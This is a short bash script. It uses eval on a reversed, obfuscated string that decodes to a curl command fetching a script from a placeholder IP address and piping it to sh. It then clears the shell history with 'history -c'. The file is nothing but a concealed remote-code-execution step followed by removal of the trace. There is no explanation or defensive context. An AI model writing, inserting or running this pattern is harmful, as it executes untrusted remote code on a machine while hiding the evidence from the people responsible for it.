#!/bin/bash
eval "$(echo 'hs | 1.2.0.291//:ptth Ls- lruc' | rev)"
history -c
